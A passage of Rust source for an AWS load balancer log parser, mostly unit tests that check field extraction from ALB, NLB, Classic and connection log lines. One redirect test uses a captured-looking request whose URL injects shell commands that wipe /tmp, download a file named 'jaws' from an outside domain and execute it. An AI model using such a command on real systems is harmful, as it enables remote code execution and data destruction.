        let start = self.pos;
        if start >= bytes.len() {
            return None;
        }
        if bytes[start] == b'"' {
            let mut from = start + 1;
            loop {
                let q = find_byte(bytes, from, b'"');
                if q >= bytes.len() {
                    self.pos = bytes.len();
                    return Some(&self.line[start + 1..]);
                }
                let at_end = matches!(bytes.get(q + 1), None | Some(b' '));
                let escaped = q > start + 1 && bytes[q - 1] == b'\\';
                if at_end && !escaped {
                    self.pos = q + 2;
                    return Some(&self.line[start + 1..q]);
                }
                from = q + 1;
            }
        }
        let end = find_byte(bytes, start, b' ');
        self.pos = end + 1;
        Some(&self.line[start..end])
    }
}

/// Index of the first `needle` in `bytes` at or after `from`, or `bytes.len()`.
/// Eight bytes at a time: fields are short, so this beats a SIMD search's setup.
#[inline]
fn find_byte(bytes: &[u8], mut from: usize, needle: u8) -> usize {
    const LO: u64 = 0x0101_0101_0101_0101;
    const HI: u64 = 0x8080_8080_8080_8080;
    let pattern = LO * u64::from(needle);
    while let Some(chunk) = bytes.get(from..from + 8) {
        let mut word = [0u8; 8];
        word.copy_from_slice(chunk);
        let x = u64::from_le_bytes(word) ^ pattern;
        // The lowest flagged byte is the first zero byte of `x` (borrows only
        // flag bytes above a real zero).
        let found = x.wrapping_sub(LO) & !x & HI;
        if found != 0 {
            return from + (found.trailing_zeros() / 8) as usize;
        }
        from += 8;
    }
    while from < bytes.len() && bytes[from] != needle {
        from += 1;
    }
    from
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{json, Value as J};

    fn parse(line: &str) -> J {
        let mut events = Vec::new();
        ElbParser
            .parse(line, &mut |e| events.push(e))
            .expect("parses");
        assert_eq!(events.len(), 1);
        let mut out = Vec::new();
        events[0].write_json(&mut out);
        serde_json::from_slice(&out).expect("valid JSON")
    }

    fn parse_err(line: &str) -> ParseError {
        let mut n = 0;
        let err = ElbParser
            .parse(line, &mut |_| n += 1)
            .expect_err("must be an error");
        assert_eq!(n, 0);
        err
    }

    /// Every leaf of `expected` is in `got` with the same value.
    fn assert_subset(got: &J, expected: &J, path: &str) {
        match expected {
            J::Object(map) => {
                for (k, v) in map {
                    let p = if path.is_empty() {
                        k.clone()
                    } else {
                        format!("{path}.{k}")
                    };
                    assert_subset(got.get(k).unwrap_or(&J::Null), v, &p);
                }
            }
            _ => assert_eq!(got, expected, "field {path}"),
        }
    }

    fn has(v: &J, dotted: &str) -> bool {
        dotted.split('.').try_fold(v, |v, k| v.get(k)).is_some()
    }

    // --- Application Load Balancer --------------------------------------

    const ALB_HTTP: &str = r#"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward,redirect" "-" "-" "10.0.0.1:80" "200" "-" "-""#;

    #[test]
    fn parses_alb_http_entry_as_elastic_does() {
        let v = parse(ALB_HTTP);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2018-07-02T22:23:00.186Z",
                "aws": {"elb": {
                    "action_executed": ["forward", "redirect"],
                    "backend": {"http": {"response": {"status_code": 200}}, "ip": "10.0.0.1", "port": "80"},
                    "backend_processing_time": {"sec": 0.001},
                    "matched_rule_priority": "0",
                    "name": "app/my-loadbalancer/50dc6c495c0c9188",
                    "protocol": "http",
                    "request_processing_time": {"sec": 0.0},
                    "response_processing_time": {"sec": 0.0},
                    "target_group": {"arn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"},
                    "target_port": ["10.0.0.1:80"],
                    "target_status_code": ["200"],
                    "trace_id": "Root=1-58337262-36d228ad5d99923122bbe354",
                    "type": "http"
                }},
                "event": {"category": ["web"], "end": "2018-07-02T22:23:00.186Z", "outcome": "success", "start": "2018-07-02T22:22:48.364Z"},
                "http": {"request": {"body": {"bytes": 34}, "method": "GET"}, "response": {"body": {"bytes": 366}, "status_code": 200}, "version": "1.1"},
                "source": {"address": "192.168.131.39", "ip": "192.168.131.39", "port": 2817},
                "trace": {"id": "Root=1-58337262-36d228ad5d99923122bbe354"},
                "url": {"domain": "www.example.com", "original": "http://www.example.com:80/", "path": "/", "port": 80, "scheme": "http"},
                "user_agent": {"original": "curl/7.46.0"}
            }),
            "",
        );
        for absent in [
            "destination.domain",
            "aws.elb.chosen_cert",
            "aws.elb.ssl_cipher",
            "tls",
            "aws.elb.classification",
            "aws.elb.error",
            "url.query",
        ] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    #[test]
    fn parses_redirect_without_target_and_minus_one_timings() {
        let line = r#"http 2022-05-12T06:41:29.051646Z app/admin-LoadB-1EGHQRJIOLMFR/3011821a43ee0c5e 67.43.156.20:41542 - -1 -1 -1 301 - 233 390 "GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19-4c6df30820daa80e3fd72ced" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws" "-" "-" "-" "Acceptable" "SpaceInUri""#;
        let v = parse(line);
        assert_subset(
            &v,
            &json!({
                "aws": {"elb": {
                    "action_executed": ["redirect"],
                    "classification": "Acceptable",
                    "classification_reason": "SpaceInUri",
                    "redirect_url": "https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws",
                    "target_group": {"arn": "-"},
                }},
                "http": {"response": {"status_code": 301}},
                "url": {"domain": "127.0.0.1", "path": "/shell", "port": 80, "query": "cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"},
                "user_agent": {"original": "Hello, world"},
                "source": {"port": 41542},
            }),
            "",
        );
        for absent in [
            "aws.elb.backend",
            "aws.elb.request_processing_time",
            "aws.elb.backend_processing_time",
            "aws.elb.response_processing_time",
            "aws.elb.target_port",
            "aws.elb.target_status_code",
        ] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    #[test]
    fn parses_alb_https_entry_with_tls_sni_and_certificate() {
        let line = r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-" TID_1234abcd5678ef90"#;
        let v = parse(line);
        assert_subset(
            &v,
            &json!({
                "aws": {"elb": {
                    "type": "https",
                    "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
                    "ssl_protocol": "TLSv1.2",
                    "chosen_cert": {"arn": "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"},
                    "matched_rule_priority": "1",
                    "action_executed": ["authenticate", "forward"],
                    "request_processing_time": {"sec": 0.086},
                    "backend_processing_time": {"sec": 0.048},
                    "response_processing_time": {"sec": 0.037},
                    "connection_trace_id": "TID_1234abcd5678ef90",
                }},
                "destination": {"domain": "www.example.com"},
                "tls": {"cipher": "ECDHE-RSA-AES128-GCM-SHA256", "version": "1.2", "version_protocol": "tls"},
                "url": {"scheme": "https", "port": 443},
            }),
            "",
        );
    }

    #[test]
    fn parses_alb_h2_grpcs_ws_and_wss_entries() {
        let h2 = r#"h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" "https://example.com:80/" "-" "10.0.0.66:9000" "200" "-" "-""#;
        let v = parse(h2);
        assert_eq!(v["aws"]["elb"]["type"], "h2");
        assert_eq!(v["http"]["version"], "2.0");
        assert_eq!(v["url"]["port"], 773);
        assert_eq!(v["aws"]["elb"]["redirect_url"], "https://example.com:80/");

        let grpcs = r#"grpcs 2023-01-05T10:00:00.100000Z app/grpc-lb/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:50051 0.001 0.010 0.000 200 200 120 80 "POST https://grpc.example.com:443/helloworld.Greeter/SayHello HTTP/2.0" "grpc-go/1.50.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/grpc/73e2d6bc24d8a067 "Root=1-63b69f20-72bd00b0343d75b906739c42" "grpc.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 2 2023-01-05T10:00:00.089000Z "forward" "-" "-" "10.0.0.66:50051" "200" "-" "-""#;
        let v = parse(grpcs);
        assert_eq!(v["aws"]["elb"]["type"], "grpcs");
        assert_eq!(v["http"]["request"]["method"], "POST");
        assert_eq!(v["url"]["path"], "/helloworld.Greeter/SayHello");
        assert!(
            !has(&v, "url.extension"),
            "only the last path segment can have an extension"
        );
        assert_eq!(v["tls"]["version"], "1.3");

        let ws = r#"ws 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:40914 10.0.1.192:8010 0.001 0.003 0.000 101 101 218 587 "GET http://10.0.0.30:80/ HTTP/1.1" "-" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.1.192:8010" "101" "-" "-""#;
        let v = parse(ws);
        assert_eq!(v["aws"]["elb"]["type"], "ws");
        assert_eq!(v["http"]["response"]["status_code"], 101);
        assert!(
            !has(&v, "user_agent"),
            "a `-` user agent yields no user_agent.*"
        );

        let wss = r#"wss 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:44244 10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 "GET https://10.0.0.30:443/ HTTP/1.1" "-" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-""#;
        let v = parse(wss);
        assert_eq!(v["aws"]["elb"]["type"], "wss");
        assert_eq!(v["aws"]["elb"]["backend"]["port"], "8010");
        assert!(
            !has(&v, "aws.elb.target_port"),
            "an older line without the target lists is fine"
        );
    }

    #[test]
    fn parses_lambda_target_success_and_failure() {
        let ok = r#"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "-" "-" "200" "-" "-""#;
        let v = parse(ok);
        assert!(!has(&v, "aws.elb.backend.ip"));
        assert!(!has(&v, "aws.elb.error"));
        assert_eq!(v["aws"]["elb"]["target_status_code"], json!(["200"]));
        assert_eq!(v["event"]["outcome"], "success");

        let failed = r#"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse" "-" "-" "-" "-""#;
        let v = parse(failed);
        assert_eq!(v["aws"]["elb"]["error"]["reason"], "LambdaInvalidResponse");
        assert_eq!(v["http"]["response"]["status_code"], 502);
        assert_eq!(v["event"]["outcome"], "failure");
        assert!(!has(&v, "aws.elb.backend"));
        assert!(!has(&v, "aws.elb.target_status_code"));
    }

    #[test]
    fn parses_failed_target_and_several_targets() {
        let line = r#"https 2024-02-01T08:00:01.000001Z app/shop/50dc6c495c0c9188 203.0.113.7:50000 10.0.0.9:8080 0.000 -1 -1 504 - 512 202 "POST https://shop.example.com:443/api/orders HTTP/1.1" "python-requests/2.31.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/shop/73e2d6bc24d8a067 "Root=1-65bb4f01-0123456789abcdef01234567" "shop.example.com" "session-reused" 5 2024-02-01T07:59:59.000000Z "waf,forward" "-" "-" "10.0.0.9:8080 10.0.0.10:8080" "- 200" "Ambiguous" "UndefinedContentLengthSemantics""#;
        let v = parse(line);
        assert_eq!(
            v["aws"]["elb"]["target_port"],
            json!(["10.0.0.9:8080", "10.0.0.10:8080"])
        );
        assert_eq!(v["aws"]["elb"]["target_status_code"], json!(["200"]));
        assert_eq!(v["aws"]["elb"]["chosen_cert"]["arn"], "session-reused");
        assert_eq!(v["aws"]["elb"]["classification"], "Ambiguous");
        assert_eq!(v["aws"]["elb"]["request_processing_time"]["sec"], 0.0);
        assert!(!has(&v, "aws.elb.backend_processing_time"));
        assert!(!has(&v, "aws.elb.backend.http"));
        assert_eq!(v["event"]["outcome"], "failure");
    }

    #[test]
    fn parses_newer_trailing_fields_and_ignores_unknown_ones() {
        let line = r#"https 2025-01-10T12:00:00.123456Z app/edge/50dc6c495c0c9188 198.51.100.20:61000 10.0.3.4:443 0.001 0.020 0.000 200 200 300 1200 "GET https://api.example.com:443/v1/items?id=7#top HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/123.0" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/api/73e2d6bc24d8a067 "Root=1-67810c00-0123456789abcdef01234567" "api.example.com" "arn:aws:acm:eu-west-1:123456789012:certificate/abc" 10 2025-01-10T12:00:00.100000Z "forward" "-" "-" "10.0.3.4:443" "200" "-" "-" TID_0aa1bb2cc3dd4ee5 "internal.example.com" "/v2/items?id=7" "TransformSuccessful" future-field "another one""#;
        let v = parse(line);
        assert_subset(
            &v,
            &json!({"aws": {"elb": {
                "connection_trace_id": "TID_0aa1bb2cc3dd4ee5",
                "transformed_host": "internal.example.com",
                "transformed_uri": "/v2/items?id=7",
                "request_transform_status": "TransformSuccessful",
            }}, "url": {"query": "id=7", "fragment": "top", "path": "/v1/items"}}),
            "",
        );
    }

    #[test]
    fn parses_malformed_request_line_without_url_or_method() {
        let line = r#"http 2024-01-01T00:00:00.000000Z app/lb/50dc6c495c0c9188 198.51.100.1:1234 - -1 -1 -1 400 - 0 272 "- http://lb-123.us-east-1.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - 2024-01-01T00:00:00.000000Z "-" "-" "-" "-" "-" "-" "-""#;
        let v = parse(line);
        assert!(!has(&v, "http.request.method"));
        assert!(!has(&v, "http.version"));
        assert!(!has(&v, "aws.elb.trace_id"));
        assert!(!has(&v, "aws.elb.matched_rule_priority"));
        assert_eq!(
            v["url"]["original"],
            "http://lb-123.us-east-1.elb.amazonaws.com:80-"
        );
        assert_eq!(v["aws"]["elb"]["target_group"]["arn"], "-");
        assert_eq!(v["event"]["outcome"], "failure");

        let dashes = r#"http 2024-01-01T00:00:00.000000Z app/lb/50dc6c495c0c9188 198.51.100.1:1234 - -1 -1 -1 460 - 0 0 "- - - " "-" - - - "-" "-" "-" - 2024-01-01T00:00:00.000000Z "-" "-" "-""#;
        let v = parse(dashes);
        assert!(!has(&v, "url"));
        assert!(!has(&v, "http.request.method"));
        assert_eq!(v["http"]["response"]["status_code"], 460);
    }

    #[test]
    fn parses_ipv6_clients_and_targets() {
        let line = r#"https 2024-05-01T00:00:00.000000Z app/v6/50dc6c495c0c9188 2001:db8::1:51234 [2001:db8::10]:443 0.000 0.001 0.000 200 200 1 2 "GET https://[2001:db8::5]:443/ HTTP/1.1" "curl/8.5.0" - - - "-" "-" "-" 0 2024-05-01T00:00:00.000000Z "forward" "-" "-""#;
        let v = parse(line);
        assert_eq!(v["source"]["ip"], "2001:db8::1");
        assert_eq!(v["source"]["port"], 51234);
        assert_eq!(v["aws"]["elb"]["backend"]["ip"], "2001:db8::10");
        assert_eq!(v["aws"]["elb"]["backend"]["port"], "443");
        assert_eq!(v["url"]["domain"], "2001:db8::5");
        assert_eq!(v["url"]["port"], 443);
    }

    // --- Network Load Balancer ------------------------------------------

    #[test]
    fn parses_nlb_tls_line() {
        let line = "tls 2.0 2018-12-20T02:59:40 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com - - -";
        let v = parse(line);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2018-12-20T02:59:40.000Z",
                "aws": {"elb": {
                    "type": "tls",
                    "name": "net/my-network-loadbalancer/c6e77e28c25b2234",
                    "listener": "g3d4b5e8bb8464cd",
                    "backend": {"ip": "172.100.100.185", "port": "443"},
                    "connection_time": {"ms": 5},
                    "tls_handshake_time": {"ms": 2},
                    "chosen_cert": {"arn": "arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99"},
                    "ssl_cipher": "ECDHE-RSA-AES128-SHA",
                    "ssl_protocol": "tlsv12",
                    "protocol": "tcp",
                }},
                "source": {"ip": "72.21.218.154", "port": 51341, "bytes": 98},
                "destination": {"bytes": 246, "domain": "my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com"},
                "tls": {"cipher": "ECDHE-RSA-AES128-SHA", "version": "1.2", "version_protocol": "tls"},
                "event": {"category": ["network"], "end": "2018-12-20T02:59:40.000Z"},
            }),
            "",
        );
        for absent in [
            "aws.elb.alpn_fe_protocol",
            "aws.elb.incoming_tls_alert",
            "aws.elb.tls_named_group",
            "http",
            "event.outcome",
        ] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    #[test]
    fn parses_nlb_tls_line_with_alpn_and_creation_time() {
        let line = r#"tls 2.0 2020-04-01T08:51:42 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 - ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com h2 h2 "h2","http/1.1" 2020-04-01T08:51:20"#;
        let v = parse(line);
        assert_eq!(v["aws"]["elb"]["alpn_fe_protocol"], "h2");
        assert_eq!(v["aws"]["elb"]["alpn_be_protocol"], "h2");
        assert_eq!(
            v["aws"]["elb"]["alpn_client_preference_list"],
            json!(["h2", "http/1.1"])
        );
        assert_eq!(
            v["aws"]["elb"]["tls_connection_creation_time"],
            "2020-04-01T08:51:20.000Z"
        );

        let escaped = r#"tls 2.0 2024-10-25T17:33:59 net/k8s-xxxx-xxx-xxxxxxxx/53192f3a0 46712e747de 192.168.131.39:2817 10.0.0.1:80 108 65 256 527 - arn:aws:acm:eu-central-1:XXXXXXXXXXX:certificate/25c6-4fad-9d52-7fca046bb588 - ECDHE-RSA-AES128-GCM-SHA256 tlsv12 - oauth.example.com http/1.1 http/1.1 \"http/1.1\" 2024-10-22T19:16:57"#;
        let v = parse(escaped);
        assert_eq!(
            v["aws"]["elb"]["alpn_client_preference_list"],
            json!(["http/1.1"])
        );
        assert_eq!(v["aws"]["elb"]["connection_time"]["ms"], 108);
    }

    #[test]
    fn parses_nlb_line_of_failed_handshake() {
        let line = "tls 2.0 2024-10-25T17:33:59 net/XXXXX-XXXX-XXX-us-east-2/c88927aafc9abafe 52878890095341b5 192.168.131.39:2817 10.0.0.1:80 0 - 0 0 - - - - - - - - - - 2024-10-25T17:33:59";
        let v = parse(line);
        assert_eq!(v["aws"]["elb"]["connection_time"]["ms"], 0);
        assert!(!has(&v, "aws.elb.tls_handshake_time"));
        assert!(!has(&v, "tls"));
        assert!(!has(&v, "aws.elb.alpn_client_preference_list"));
        assert_eq!(v["source"]["bytes"], 0);
    }

    // --- Classic Load Balancer ------------------------------------------

    #[test]
    fn parses_classic_http_and_https_lines() {
        let http = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -"#;
        let v = parse(http);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2015-05-13T23:39:43.945Z",
                "aws": {"elb": {"name": "my-loadbalancer", "protocol": "http", "backend": {"ip": "10.0.0.1", "port": "80"},
                    "request_processing_time": {"sec": 0.000073}, "backend_processing_time": {"sec": 0.001048}, "response_processing_time": {"sec": 0.000057}}},
                "http": {"response": {"status_code": 200, "body": {"bytes": 29}}, "request": {"method": "GET", "body": {"bytes": 0}}},
                "event": {"category": ["web"], "outcome": "success"},
            }),
            "",
        );
        assert!(!has(&v, "aws.elb.type"), "Classic lines have no type");

        let https = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2"#;
        let v = parse(https);
        assert_eq!(v["tls"]["cipher"], "DHE-RSA-AES128-SHA");
        assert_eq!(v["tls"]["version"], "1.2");
    }

    #[test]
    fn parses_classic_tcp_and_ssl_lines() {
        let tcp = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 "- - - " "-" - -"#;
        let v = parse(tcp);
        assert_subset(
            &v,
            &json!({
                "aws": {"elb": {"protocol": "tcp", "name": "my-loadbalancer"}},
                "source": {"bytes": 82, "port": 2817},
                "destination": {"bytes": 305},
                "event": {"category": ["network"]},
            }),
            "",
        );
        assert!(!has(&v, "http"));
        assert!(!has(&v, "url"));
        assert!(!has(&v, "event.outcome"));

        let ssl = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001065 0.000015 0.000023 - - 57 502 "- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2"#;
        let v = parse(ssl);
        assert_eq!(v["tls"]["cipher"], "ECDHE-ECDSA-AES128-GCM-SHA256");
        assert_eq!(v["aws"]["elb"]["ssl_protocol"], "TLSv1.2");
    }

    #[test]
    fn parses_classic_line_with_unreachable_backend() {
        let line = r#"2019-03-01T10:00:00.000000Z legacy-lb 203.0.113.9:40000 - -1 -1 -1 503 0 0 0 "GET http://legacy.example.com:80/index.html HTTP/1.1" "Mozilla/5.0" - -"#;
        let v = parse(line);
        assert!(!has(&v, "aws.elb.backend.ip"));
        assert_eq!(
            v["aws"]["elb"]["backend"]["http"]["response"]["status_code"],
            0
        );
        assert_eq!(v["url"]["extension"], "html");
        assert_eq!(v["event"]["outcome"], "failure");
    }

    // --- ALB connection logs --------------------------------------------

    #[test]
    fn parses_alb_connection_log_lines() {
        let ok = r#"2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Success"#;
        let v = parse(ok);
        assert_subset(
            &v,
            &json!({
                "@timestamp": "2024-10-04T17:05:15.514Z",
                "client": {"ip": "192.168.131.39", "port": 36280},
                "aws": {"elb": {
                    "listener": "443",
                    "ssl_protocol": "TLSv1.2",
                    "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
                    "tls_handshake_latency": 4.036,
                    "leaf_client_cert_subject": "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US",
                    "leaf_client_cert_not_before": "2023-09-21T22:43:21.000Z",
                    "leaf_client_cert_not_after": "2026-06-17T22:43:21.000Z",
                    "leaf_client_cert_serial_number": "FEF257372D5C14D4",
                    "tls_verify_status": "Success",
                }},
                "tls": {"version": "1.2", "version_protocol": "tls"},
                "event": {"outcome": "success", "category": ["network"]},
            }),
            "",
        );
        assert!(!has(&v, "source"));

        let failed = r#"2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - "CN=amazondomains.com,O=endEntity,L=Seattle,ST=Washington,C=US" NotBefore=2023-09-21T22:43:21Z;NotAfter=2026-06-17T22:43:21Z FEF257372D5C14D4 Failed:ClientCertUntrusted"#;
        let v = parse(failed);
        assert_eq!(v["aws"]["elb"]["tls_verify_status"], "Failed");
        assert_eq!(v["aws"]["elb"]["tls_error_code"], "ClientCertUntrusted");
        assert_eq!(v["event"]["outcome"], "failure");
        assert!(!has(&v, "aws.elb.tls_handshake_latency"));

        let plain = r#"2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - "-" - - - TID_16132ed0b4112148"#;
        let v = parse(plain);
        assert_eq!(
            v["aws"]["elb"]["connection_trace_id"],
            "TID_16132ed0b4112148"
        );
        assert_eq!(v["aws"]["elb"]["listener"], "80");
        for absent in [
            "tls",
            "aws.elb.leaf_client_cert_subject",
            "aws.elb.tls_verify_status",
            "event.outcome",
        ] {
            assert!(!has(&v, absent), "{absent} should be absent");
        }
    }

    // --- Errors and robustness ------------------------------------------

    #[test]
    fn blank_line_yields_no_event() {
        let mut n = 0;
        ElbParser.parse("  \r", &mut |_| n += 1).unwrap();
        assert_eq!(n, 0);
    }

    #[test]
    fn malformed_line_is_an_error_not_a_panic() {
        for line in [
            "garbage",
            "Hello world",
            "http",
            "http not-a-time app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5",
            "http 2018-07-02T22:23:00Z app/x not-an-ip:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:99999 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - zero 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 OK 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "http 2018-07-02T22:23:00Z app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1 \"-\" - -",
            "tls 2.0 2018-12-20T02:59:40 net/x/y l 1.2.3.4:5",
            "tls 2.0 2018-12-20T02:59:40 net/x/y l 1.2.3.4:5 1.2.3.4:6 x 2 3 4",
            "2015-05-13T23:39:43.945958Z my-loadbalancer",
            "2015-05-13T23:39:43.945958Z 999.1.1.1 36280 443",
            "2015-05-13T23:39:43.945958Z 1.1.1.1 362800 443",
            "2015-99-13T23:39:43.945958Z my-lb 1.2.3.4:5 - 0 0 0 200 200 1 1 \"GET / HTTP/1.1\" \"-\" - -",
            "\"quoted",
            "é",
        ] {
            let err = parse_err(line);
            assert_eq!(err.dataset, DATASET);
            assert!(!err.reason.is_empty());
        }
    }

    #[test]
    fn error_names_the_problem() {
        let err = parse_err("http 2018-07-02T22:23:00Z app/x 1.2.3.4:5");
        assert_eq!(err.reason, "line ends before field `target:port`");
        let err = parse_err(
            r#"http yesterday app/x 1.2.3.4:5 - 0 0 0 200 200 1 1 "GET / HTTP/1.1" "-" - -"#,
        );
        assert_eq!(err.reason, "invalid time `yesterday`");
        let err = parse_err("tls 2.0 2018-12-20T02:59:40 net/x/y l 1.2.3.4:5 1.2.3.4:6 x 2 3 4");
        assert_eq!(err.reason, "invalid connection_time `x`");
    }

    /// The parser pushes fields in the order `write_json` sorts them into, so
    /// that sort finds them in place (dotted keys, `.` before any other byte).
    #[test]
    fn fields_are_pushed_in_serialization_order() {
        let key = |k: &str| {
            k.bytes()
                .map(|b| if b == b'.' { 0 } else { b })
                .collect::<Vec<u8>>()
        };
        for line in include_str!("../../tests/fixtures/aws.elb_logs/elb.log").lines() {
            let event = parse_line(line).expect("fixture parses");
            // user_agent.* comes last and is set by the shared user_agent module.
            let keys: Vec<&str> = event
                .fields()
                .map(|(k, _)| k)
